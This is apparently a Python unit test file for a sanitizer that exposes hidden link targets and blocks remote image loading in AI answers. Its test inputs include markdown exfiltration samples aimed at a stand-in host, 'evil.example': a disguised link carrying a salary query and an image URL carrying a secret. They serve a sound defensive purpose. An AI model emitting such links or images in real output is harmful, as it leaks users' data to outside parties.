"""Links and images in answers (ui/links.py): a link's target is always visible, a remote image is never fetched,
code is left alone."""
from __future__ import annotations

from ui.links import honest_links


def test_a_link_whose_words_hide_its_target_shows_the_target():
    shown = honest_links("See [the payroll policy](https://evil.example/collect?q=salary) for details.")
    assert shown == ("See [the payroll policy](https://evil.example/collect?q=salary) "
                     "(`https://evil.example/collect?q=salary`) for details.")


def test_a_link_that_shows_its_own_address_is_left_as_it_is():
    for text in ("[https://contoso.example/a](https://contoso.example/a)", "[contoso.example](contoso.example/)",
                 "[ada@contoso.example](mailto:ada@contoso.example)"):
        assert honest_links(text) == text


def test_a_remote_image_becomes_text_and_is_never_loaded():
    shown = honest_links("Here: ![chart](https://evil.example/p.png?d=the+secret \"title\") and ![](http://x/y.gif)")
    assert "![" not in shown
    assert "chart (image not loaded: `https://evil.example/p.png?d=the+secret`)" in shown
    assert "image (image not loaded: `http://x/y.gif`)" in shown


def test_code_blocks_and_inline_code_are_untouched():
    text = "Use `[x](http://a)` or\n\n```markdown\n[label](http://b) ![i](http://c)\n```\n\nthen [y](http://d)."
    shown = honest_links(text)
    assert "`[x](http://a)`" in shown and "```markdown\n[label](http://b) ![i](http://c)\n```" in shown
    assert shown.endswith("then [y](http://d) (`http://d`).")


def test_text_without_links_is_returned_as_it_is():
    text = "Plain answer with [brackets] and (parentheses) and a [1] citation."
    assert honest_links(text) is text or honest_links(text) == text


def test_a_backtick_in_a_target_cannot_close_the_code_span():
    shown = honest_links("[a](http://x/`oops)")
    assert "(`http://x/%60oops`)" in shown
